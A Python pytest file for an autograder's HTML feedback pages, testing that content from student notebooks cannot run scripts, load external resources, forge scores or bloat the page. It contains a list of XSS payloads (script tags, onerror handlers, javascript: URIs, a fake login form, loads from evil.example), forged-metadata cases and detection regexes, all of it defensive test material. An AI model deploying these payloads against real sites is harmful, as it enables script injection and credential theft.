"""Feedback pages: what they say, and nothing in them that a student's notebook could run or load, or make large."""

import base64
import io
import re
import tokenize
from collections import Counter
from copy import deepcopy
from dataclasses import replace

import pytest
from bs4 import BeautifulSoup
from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell

from autograde.authoring.sample import SampleNotebook
from autograde.authoring.script import read_script
from autograde.course import this_course
from autograde.hidden import all_questions
from autograde.judging.asking import verdict_of
from autograde.judging.judge import _card
from autograde.judging.restore import restore
from autograde.judging.sanitize import clean
from autograde.judging.submission import Submission, released
from autograde.notebook import grade_id, is_showcase
from autograde.records.entry import GradebookEntry, Late
from autograde.reporting.feedback import MAX_PAGE, MAX_RICH, MAX_RICH_PAGE, _code, feedback_page, write_feedback
from autograde.results import Answer
from checking.calls import Outcome
from checking.card import Body, html_card
from checking.cause import Cause
from checking.check import VERDICT_TYPE

A = "gradient_checking"
POINTS = read_script(this_course().script(A)).points
FIRST = next(iter(POINTS))
SCORES = {question: round(points / 3, 2) for question, points in POINTS.items()}
PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="
SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'


def card(question):
    body = Body("It looks as if", folded="1 of 2", details=('✗ a case: `x` isn\'t > 1 & "y"', "    W1: <b> differs"))
    return html_card("partly", f"◐ {question} · partly right", body, "p<q")


def executed():
    """A graded notebook: two functions written, a card in each check cell."""
    work = SampleNotebook(A)
    work.solve(*work.functions[:2])
    notebook = restore(work.notebook.cells, Submission("ada", A))
    for number, cell in enumerate(cell for cell in notebook.cells if cell.cell_type == "code"):
        cell.execution_count = None if is_showcase(cell) else number + 1
        question = grade_id(cell).removeprefix("test_")
        if question != grade_id(cell):
            data = {
                "text/plain": "3.0",
                "text/html": card(question),
                VERDICT_TYPE: {"title": [f"◐ {question}", "partly right"]},
            }
            cell.outputs = [new_output("execute_result", data, execution_count=number + 1)]
    return notebook


def graded(*extra, scores=SCORES):
    """A submission with these cells in front."""
    notebook = executed()
    notebook.cells[:0] = extra
    return GradebookEntry("ada", A, scores, None, notebook)


def shows(*outputs):
    return new_code_cell("show()", outputs=list(outputs))


def displays(data, **metadata):
    return shows(new_output("display_data", data, metadata=metadata))


def page_of(*cells):
    """The page of a notebook that has these cells and the first check cell only."""
    one = graded()
    check = [cell for cell in one.notebook.cells if grade_id(cell) == f"test_{FIRST}"]
    one.notebook.cells = [*cells, *check]
    return feedback_page(one, POINTS)


def container(page):
    """All but the head, which is the template's."""
    return BeautifulSoup(page, "html.parser").main


FORBIDDEN = "audio base button embed form iframe input link math meta noscript object script style svg template video"
ASKS = re.compile(r"\s*(https?:|//|javascript:|data:text)|[\w./]+$", re.IGNORECASE)
RUNS = re.compile(r"\s*(j\s*a\s*v\s*a|data:)", re.IGNORECASE)
COVERS = re.compile(r"url\(|position|margin[^;]*-|\\|import", re.IGNORECASE)


def dangers(tree):
    """What in a page could run, load something, or lie over the rest of it."""
    yield from (tag.name for tag in tree.find_all(FORBIDDEN.split()))
    for tag in tree.find_all(True):
        for name, value in tag.attrs.items():
            text = " ".join(value) if isinstance(value, list) else str(value)
            if (
                name.startswith("on")
                or (name == "src" and ASKS.match(text))
                or (name == "href" and RUNS.match(text))
                or (name == "style" and COVERS.search(text))
                or (name == "class" and {"score", "mermaid"} & set(text.split()) and tag.name != "p")
            ):
                yield f"{name}={text}"


def added_dangers(*extra):
    """Those that these cells bring in; the page has some of its own, as the margins of its card."""
    without = Counter(dangers(container(page_of())))
    return list((Counter(dangers(container(page_of(*extra)))) - without).elements())


HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src='http://evil.example/x.js'></sCrIpT>",
    "<scr<i></i>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='http://evil.example/track.png'>",
    "<p onclick='alert(1)' style='position:fixed; top:0; color:red'>Score: 100</p>",
    "<p style='color:red\\3bposition:fixed'>x</p><p style='font-family:url(//evil.example)'>y</p>",
    "<div class='score'>100 / 100</div>",
    "<iframe src='http://evil.example'></iframe><object data='http://evil.example'></object><embed src=//evil.example>",
    "<svg onload=alert(1)><script>alert(1)</script><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<style>@import url(http://evil.example); body {display: none}</style>",
    "<link rel=stylesheet href=//evil.example><base href=//evil.example><meta http-equiv=refresh content='0;//evil.example'>",
    "<form action=//evil.example><input type=password><button>Log in</button></form>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a> <a href='&#106;avascript:alert(1)'>y</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<video src=//evil.example autoplay></video><audio src=//evil.example></audio>",
    "<template><script>alert(1)</script></template>",
]


@pytest.mark.parametrize("html", HOSTILE)
def test_hostile_html_is_harmless_wherever_it_stands(html):
    assert list(dangers(BeautifulSoup(html.replace("<i></i>", ""), "html.parser"))), "this would prove nothing"
    everywhere = [
        displays({"text/html": f"<p>before</p>{html}"}),
        shows(new_output("execute_result", {"text/html": html, "text/plain": "x"}, execution_count=1)),
        displays({"text/markdown": f"*before*\n\n{html}"}),
        displays({"text/latex": f"${html}$"}),
        displays({"text/plain": html}),
        shows(new_output("stream", text=html), new_output("stream", name="stderr", text=html)),
        shows(new_output("error", ename=html, evalue=html, traceback=[html])),
        new_markdown_cell(f"before\n\n{html}\n\nin {html} line"),
        new_raw_cell(html),
        new_code_cell(html),
        new_markdown_cell(f"# {html}"),
        new_markdown_cell(f"| a |\n|---|\n| {html} |"),
        new_markdown_cell(f"```{html}\n{html}\n```\n\n```mermaid\n{html}\n```"),
    ]
    assert added_dangers(*everywhere) == []


def test_other_dangerous_things_of_a_notebook_are_harmless():
    attack = '" onload="alert(1)'
    cell = new_code_cell(
        "x",
        id="a",
        metadata={"tags": [attack], "alt": attack, "magics_language": "x", "transient": {"remove_source": True}},
    )
    cell.id, cell.execution_count = attack, "<script>alert(1)</script>"
    wide = {"image/png": {"width": "1 onload=alert(1)", "height": f"1{attack}", "alt": attack, "unconfined": True}}
    cells = (
        cell,
        displays({"image/png": PNG}, **wide, filenames={"image/png": "//evil.example/x.png"}),
        displays({"image/png": PNG + attack}),
        displays({"image/svg+xml": SVG}),
        displays({"text/html": "<p>framed</p>"}, **{"text/html": {"isolated": True}}),
        displays({"application/javascript": "alert(1)"}),
        displays({"application/vnd.jupyter.widget-view+json": {"model_id": "1"}, "text/plain": "a widget"}),
        displays({"application/pdf": PNG, "<script>alert(1)</script>": "x"}),
        new_markdown_cell(
            "![x](http://evil.example/x.png) ![y](attachment:y.png) [z](javascript:alert(1)) <javascript:a>"
        ),
    )
    assert added_dangers(*cells) == []
    page = page_of(*cells)
    assert "framed" in page
    assert "a widget" in page
    assert "(not shown here: application/javascript)" in page
    assert base64.b64encode(SVG.encode()).decode() in page, "a drawing is embedded as a picture"
    assert all(picture.get("alt") for picture in container(page).find_all("img"))
    assert "<em>x (not shown here)</em> <em>y (not shown here)</em>" in page


def test_marks_of_ours_in_a_students_cell_are_not_believed():
    """A cell that calls itself a check cell, or an answer, without being the one that was handed out."""
    forged = "<script>alert('forged')</script>"
    marks = {"grade": True, "solution": False, "points": 99.0, "score": 99.0, "comment": forged, "task": True}
    unknown = displays({"text/html": forged})
    unknown.metadata.nbgrader = NotebookNode(marks, grade_id="test_other")
    copy = displays({"text/html": forged})
    copy.metadata.nbgrader = NotebookNode(marks, grade_id=f"test_{FIRST}")
    quoted = displays({"text/html": forged})
    quoted.metadata.nbgrader = NotebookNode(marks, grade_id='"><img src=x onerror="alert(1)"', solution=True)
    for cell in (unknown, copy, quoted):
        page = page_of(cell)
        card_of_ours = "style=border-left:6px solid"  # where the check cell is in doubt there is another card
        assert [danger for danger in added_dangers(cell) if not danger.startswith(card_of_ours)] == []
        assert "forged" not in page
        assert "99.0" not in page
    one = graded()
    one.notebook.cells.append(copy)
    page = feedback_page(one, POINTS)
    assert "forged" not in page, "nor does it matter which of two comes first"
    assert "There is no verdict card for it." in page


def test_what_is_harmless_stays():
    table = '<table border="1" class="dataframe"><tr style="text-align: right;"><td>1</td></tr></table>'
    page = page_of(
        displays({"text/html": f"<style scoped>.dataframe {{}}</style>{table}"}),
        displays({"image/png": PNG, "text/plain": "<Figure>"}, **{"image/png": {"width": 7}}),
        displays({"text/latex": "$a<b$"}),
        shows(new_output("stream", text="\x1b[31mred\x1b[0m & a<b")),
        new_markdown_cell(
            "## Title\n\n$W^{[l]}_{i} < \\alpha$, $$x\n=1$$ **bold**, [link](https://example.org), <b>b</b>\n\n"
            "<details><summary>more</summary>x</details>\n\n| a |\n|--:|\n| 1 |\n\n```python\nx = 1\n```\n\n```text\ny = 2\n```"
        ),
    )
    tree = container(page)
    assert tree.find("table", class_="dataframe").td.text == "1"
    assert ".dataframe {}" not in page, "a style sheet is no text"
    assert tree.find("img")["src"] == f"data:image/png;base64,{PNG}"
    assert (tree.find("img")["width"], bool(tree.find("img")["alt"])) == ("7", True)
    assert tree.find("pre", class_="tex").text == "$a<b$"
    assert tree.find("code", class_="tex").text == "W^{[l]}_{i} < \\alpha", "formulas are shown as they were written"
    assert tree.find("code", class_="tex-block").text == "x\n=1"
    assert "red & a<b" in [pre.text for pre in tree.find_all("pre")], "without its colour"
    assert tree.find("a", href="https://example.org").text == "link"
    assert tree.find("h5").text == "Title", "below the headings of the page"
    assert tree.find("div", class_="prose").details.summary.text == "more"
    assert tree.find("th", style="text-align:right").text == "a"
    assert [number.text for number in tree.find_all("span", class_="m")] == ["1"], "Python is highlighted, text is not"


def test_the_cards_are_as_they_were_made():
    """Their first line is a heading."""
    tree = container(feedback_page(graded(), POINTS))
    for question in POINTS:
        (theirs,) = tree.find("article", id=f"verdict-{question}").find_all(role="group")
        (made,) = BeautifulSoup(card(question), "html.parser").find_all(role="group")
        first, *rest = theirs.find_all(recursive=False)
        first_made, *rest_made = made.find_all(recursive=False)
        assert (theirs.attrs, first, rest) == (made.attrs, first_made, rest_made)
        assert first["role"] == "heading"
    assert clean(card(FIRST)) != card(FIRST), "else this would not show that they are left alone"


@pytest.mark.parametrize(
    ("status", "sign", "word", "colour"),
    [
        ("error", "✗", "does not run", "#D55E00"),
        ("timeout", "∞", "did not end", "#D55E00"),
        ("missing", "○", "not in the notebook", "#56B4E9"),
    ],
)
def test_a_function_that_is_not_there_has_a_word_and_a_colour_of_its_state(status, sign, word, colour):
    question = all_questions(A)[FIRST]
    verdict = verdict_of(question, [Outcome("missing")] * len(question.calls))
    cause = Cause("cell", error="SyntaxError", words="SyntaxError: invalid syntax", advice="Look at the line above.")
    one = graded()
    check = next(cell for cell in one.notebook.cells if grade_id(cell) == f"test_{FIRST}")
    check.outputs = [_card(verdict, Answer(FIRST, 0.0, status, cause))]
    tree = container(feedback_page(one, POINTS))
    points = f"0 of {question.points:g} points"
    assert [span.text for span in tree.nav.a.find_all("span")] == [f"{sign} {FIRST}", word, points]
    made = tree.find("article", id=f"verdict-{FIRST}").find(role="group")
    assert made["aria-label"] == f"{sign} {FIRST} · {word} · {points}"
    assert colour in made["style"]
    assert [line.text for line in made.find_all("div")[1:]] == [f"{cause}.", cause.advice]


def test_a_question_without_a_card_has_its_score():
    one = graded()
    one.notebook.cells = [cell for cell in one.notebook.cells if grade_id(cell) != f"test_{FIRST}"]
    text = container(feedback_page(one, POINTS)).find(id=f"verdict-{FIRST}").text
    assert f"{SCORES[FIRST]:g} of {POINTS[FIRST]:g} points" in text


def test_every_question_is_listed_and_every_jump_leads_somewhere():
    tree = container(feedback_page(graded(), POINTS))
    assert [link["href"] for link in tree.nav.find_all("a")] == [f"#verdict-{question}" for question in POINTS]
    assert [link.text.split() for link in tree.nav.find_all("a")] == [
        ["◐", question, "partly", "right"] for question in POINTS
    ]
    ids = [tag["id"] for tag in tree.find_all(id=True)]
    assert len(ids) == len(set(ids)) == 2 * len(POINTS)
    assert {link["href"] for link in tree.find_all("a")} == {f"#{id_}" for id_ in ids}


def test_the_score_is_at_the_top_with_what_being_late_costs():
    tree = container(feedback_page(graded(), POINTS))
    total = round(sum(SCORES.values()), 2)
    assert tree.find("p", class_="score").text == f"{total:g} of 100 points"
    assert "late" not in tree.text
    tree = container(feedback_page(graded(), POINTS, Late(7.5, "2031-09-30 12:00:00 UTC")))
    assert tree.find("p", class_="score").text == f"{total - 7.5:g} of 100 points"
    assert (
        f"{total:g} points, less 7.5 because it was handed in late; it was due at 2031-09-30 12:00:00 UTC." in tree.text
    )
    tree = container(feedback_page(graded(), POINTS, Late(99.0, "")))
    assert tree.find("p", class_="score").text == "0 of 100 points"


def test_what_was_put_right_is_said_with_its_question():
    noted = replace(graded(), notes={FIRST: ["its <b>points</b> were changed"], "": ["recognised in 'x&y'"]})
    html = feedback_page(noted, POINTS)
    assert "The notebook: <bdi>recognised in &#39;x&amp;y&#39;</bdi>." in html
    said = f'<a href="#verdict-{FIRST}">{FIRST}</a>: <bdi>its &lt;b&gt;points&lt;/b&gt; were changed</bdi>.'
    assert html.index("The notebook: ") < html.index(said)
    assert "Put right" not in feedback_page(graded(), POINTS)


def test_code_of_the_student_is_shown_and_what_is_as_handed_out_is_not():
    tree = container(feedback_page(graded(), POINTS))
    shown = {question: tree.find(id=f"code-{question}") for question in POINTS}
    assert [q for q, cell in shown.items() if not cell.details] == list(POINTS)[:2], "the two that were written"
    assert all(cell.details.summary.text == "As handed out." for cell in list(shown.values())[2:])
    assert [q for q in POINTS if f"def {q}" not in shown[q].text] == []
    ours = [cell for cell in released(A).cells if not grade_id(cell)]
    assert [cell.source for cell in ours if cell.source in tree.text] == []
    demonstrations = sum(is_showcase(cell) for cell in ours)
    assert f"{demonstrations} demonstrations were not run" in tree.text


def test_cells_stand_in_the_notebooks_order_below_the_headings_of_the_course():
    one = graded()
    place = next(i for i, cell in enumerate(one.notebook.cells) if grade_id(cell) == FIRST)
    demonstration = next(cell for cell in one.notebook.cells if is_showcase(cell))
    demonstration.source = "print('my own')"
    one.notebook.cells.insert(place + 1, new_markdown_cell("My answer: **3**."))
    tree = container(feedback_page(one, POINTS))
    titles = re.findall(r"^# ## (.*)$", (this_course().script(A)).read_text(encoding="utf-8"), re.MULTILINE)
    headings = [heading.text for heading in tree.find_all("h3", class_="place")]
    assert headings == [title for title in titles if title in headings]
    assert len(headings) > 2
    cells = tree.find_all("div", class_="cell")
    assert "A demonstration. Not run: no points depend on it." in cells[0].text
    assert "print('my own')" in cells[0].text
    assert [cell.get("id") for cell in cells[1:3]] == [f"code-{FIRST}", None]
    assert cells[2].strong.text == "3"
    assert cells[1].find_previous("h3").text == titles[2]


def test_what_was_written_over_is_not_shown():
    bar = shows(new_output("stream", name="stderr", text="\r 10%|#\r100%|##########\nnext\r\nlast"))
    (pre,) = (pre for pre in container(page_of(bar)).find_all("pre") if "next" in pre.text)
    assert pre.text == "100%|##########\nnext\nlast"
    assert "stderr" in pre.parent.text, "said in words, not by its colour"


def test_hidden_tests_are_not_on_the_page():
    one = graded()
    for cell in one.notebook.cells:
        if grade_id(cell).startswith("test_"):
            cell.source = f"### BEGIN HIDDEN TESTS\nsecret = 1\n### END HIDDEN TESTS\n{cell.source}"
    before = deepcopy(one.notebook)
    page = feedback_page(one, POINTS)
    assert "secret" not in page
    assert "HIDDEN" not in page
    assert one.notebook == before, "the notebook itself is left as it is"


@pytest.mark.parametrize(
    "cell",
    [
        new_markdown_cell("![pasted](attachment:missing.png)"),
        shows(new_output("stream", text="half a colour \x1b[38m")),
        new_code_cell("### BEGIN HIDDEN TESTS"),
        new_code_cell(" \n" * (MAX_RICH // 2 - 1) + "blank"),  # for which IPython's lexer takes minutes
        new_markdown_cell("#\n" * (MAX_RICH // 2)),
        new_markdown_cell("> " * 2000),
        displays({"text/html": "<div>" * (MAX_RICH // 5)}),
        displays({"text/html": ["<p>", "in lines"]}),
        displays({}),
    ],
    ids=["attachment", "colour", "marker", "blanks", "headings", "quotes", "nested", "lines", "empty"],
)
def test_odd_cells_do_not_stop_a_page(cell):
    assert container(page_of(cell)).find(id=f"verdict-{FIRST}").find(role="heading")


def test_what_is_very_long_is_shown_as_it_was_written_and_in_part():
    long = "**x** <script>alert(1)</script> " * (MAX_RICH // 10)
    cells = (
        new_markdown_cell(long),
        new_code_cell(long),
        displays({"text/html": f"<b>long</b>{long}", "text/plain": "short"}),
        shows(new_output("stream", text="\x1b[31m" + long)),
    )
    assert added_dangers(*cells) == []
    page = page_of(*cells)
    assert page.count("**x** &lt;script&gt;") > MAX_RICH // 5
    assert page.count("characters are left out here") == 3
    assert "short" in page
    some = [new_markdown_cell(f"**{i}** {'x' * 4000}") for i in range(MAX_RICH_PAGE // 4000 + 1)]
    page = page_of(*some)
    assert "<strong>0</strong>" in page
    assert f"**{len(some) - 1}**" in page, "more than a page may take"


def picture(size):
    return {"image/png": base64.b64encode(bytes(size)).decode()}


WORDS = "<&\"'é" * 4_000  # most of it takes more bytes as HTML


# {what there is too much of: what makes it}
TOO_MUCH = {
    "pictures": lambda: [displays(picture(100_000)) for _ in range(20)],
    "huge": lambda: [displays(picture(2_000_000))],
    "drawings": lambda: [displays({"image/svg+xml": "<svg>" + "x" * 300_000})] * 2,
    "printed": lambda: [shows(*[new_output("stream", text=WORDS) for _ in range(100)])],
    "outputs": lambda: [
        shows(*[new_output("stream", text="x", name=("stdout", "stderr")[i % 2]) for i in range(20_000)])
    ],
    "cells": lambda: [new_code_cell(f"x = {i}  # {WORDS[:3000]}", execution_count=1) for i in range(2_000)],
    "code": lambda: [new_code_cell("x = [" + "1,\n" * 2500 + "]", execution_count=i) for i in range(100)],
    "text": lambda: [new_markdown_cell("# " + "*a* " * 1900) for _ in range(100)],
    "html": lambda: [displays({"text/html": "<b>a</b>" * 900}) for _ in range(100)],
}


@pytest.mark.parametrize("of", TOO_MUCH)
def test_a_page_stays_small_and_says_what_it_leaves_out(of):
    page = page_of(*TOO_MUCH[of]())
    assert len(page.encode()) < MAX_PAGE
    assert re.search(
        r"or outputs? too many for this page are left out|A picture of [\d,]+ kB is left out|not shown here", page
    )
    assert f'id="verdict-{FIRST}"' in page


def test_of_pictures_that_are_too_many_the_smaller_ones_are_kept():
    sizes = (300_000, 1_000, 200_000, 100_000, 50_000)
    tree = container(page_of(*[displays(picture(size)) for size in sizes]))
    assert [len(base64.b64decode(img["src"].partition(",")[2])) for img in tree.find_all("img")] == [
        1_000,
        100_000,
        50_000,
    ]
    assert [p.text for p in tree.find_all("p", class_="soft") if "A picture" in p.text] == [
        f"A picture of {kilobytes} kB is left out; see your notebook." for kilobytes in (300, 200)
    ]


def test_a_pasted_picture_stands_below_its_text():
    cell = new_markdown_cell("My sum: ![sum](attachment:sum.png) and ![lost](attachment:lost.png)")
    cell.attachments = {"sum.png": {"image/png": PNG}}
    page = page_of(cell)
    assert f"data:image/png;base64,{PNG}" in page
    assert "<em>sum (below)</em> and <em>lost (not shown here)</em>" in page


def test_the_file_is_the_page_and_nothing_else_is_left_there(tmp_path):
    path = tmp_path / "ada" / A / f"{A}.html"
    half = shows(new_output("stream", text="half a character \ud83d"))
    write_feedback(graded(half), POINTS, path)
    assert path.read_bytes().decode("utf-8") == feedback_page(graded(half), POINTS).replace("\ud83d", "?")
    assert [p.name for p in path.parent.iterdir()] == [path.name]


def test_a_browser_is_told_to_run_and_load_nothing():
    (policy,) = BeautifulSoup(feedback_page(graded(), POINTS), "html.parser").find_all(
        "meta", attrs={"http-equiv": "Content-Security-Policy"}
    )
    rules = dict(rule.split(maxsplit=1) for rule in policy["content"].split(";"))
    assert rules["default-src"] == "'none'"
    assert rules["img-src"] == "data:"
    assert not {"script-src", "connect-src", "frame-src"} & set(rules)


def test_code_is_shown_letter_by_letter_and_coloured_as_python_reads_it():
    """Every cell of the course, and the tokenizer of Python as the oracle for strings, comments and numbers."""
    cells = [cell for a in this_course().assignments for cell in read_script(this_course().script(a)).notebook.cells]
    sources = [cell.source for cell in cells if cell.cell_type == "code"]
    kinds = {tokenize.STRING: "s", tokenize.COMMENT: "c", tokenize.NUMBER: "m"}
    compared = 0
    for source in sources:
        (pre,) = BeautifulSoup(_code(source), "html.parser").find_all("pre")
        assert pre.text == source.strip("\n")
        if not re.search("[fF]r?['\"]", source):  # of which newer Pythons make several tokens
            marked = [(span["class"][0], span.text) for span in pre.find_all("span", class_=["s", "c", "m"])]
            tokens = tokenize.generate_tokens(io.StringIO(source).readline)
            assert marked == [(kinds[token.type], token.string) for token in tokens if token.type in kinds]
            compared += len(marked)
    assert compared > 300
    text = _code("class A(B): pass  # class\n'a < b' & c\n%time def_ = True")
    words = {span.text for span in BeautifulSoup(text, "html.parser").find_all(class_=["k", "f"])}
    assert words == {"class", "A", "pass", "True"}


def test_what_stands_behind_an_angle_bracket_is_still_there():
    page = page_of(new_markdown_cell("if x<script>y then it holds, and Vector<float> v is long"))
    assert "then it holds" in page
    assert "<script" not in page
